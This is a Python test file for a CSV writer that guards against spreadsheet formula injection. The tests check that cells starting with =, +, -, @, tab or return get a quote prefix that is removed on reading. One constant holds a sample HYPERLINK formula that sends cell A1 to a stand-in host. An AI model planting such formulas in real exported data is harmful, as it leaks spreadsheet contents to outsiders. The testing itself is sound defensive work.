"""CSV for spreadsheets: text is guarded against being computed, and comes back in as it was.

Source: OWASP, CSV Injection: = + - @, tab and carriage return.
"""

import csv
import io
from decimal import Decimal

import pytest

from fleet.core.csv_writer import guarded, lines, unguarded
from fleet.imports.table import open_table

pytestmark = pytest.mark.security

DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = 'HYPERLINK("http://a.example/?"&A1,"Click")'


@pytest.mark.parametrize("begins", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "return"])
def test_each_of_the_six_is_guarded_and_comes_off_again(begins):
    for text in (begins, begins + PAYLOAD, f"'{begins}{PAYLOAD}", f"''{begins}"):
        assert guarded(text) == f"'{text}"
        assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["", "'", "'tis", "T-01", "a=1", " =1", "5", "Ä"])
def test_other_text_stays_as_it_is(text):
    assert guarded(text) == text
    assert unguarded(text) == text


def test_figures_stay_figures():
    row = [-5, Decimal("-1.50"), -0.25, None, "-5"]
    assert list(lines([row])) == ["-5,-1.50,-0.25,,'-5\r\n"]


def test_a_file_that_was_guarded_reads_as_it_was(tmp_path):
    rows = [
        ["machine", "date", "hours", "note"],
        ["-A1", "2026-01-05", "10", "=cold"],
        ["@B;2", "2026-01-05", "-7", '+"x",\ny'],
    ]
    path = tmp_path / "rejects"
    path.write_text("".join(lines(rows)), encoding="utf-8", newline="")
    assert [row.cells for row in open_table(path, "rejects").rows()] == rows
    assert next(csv.reader(io.StringIO(path.read_text().split("\n", 1)[1])))[0] == "'-A1"
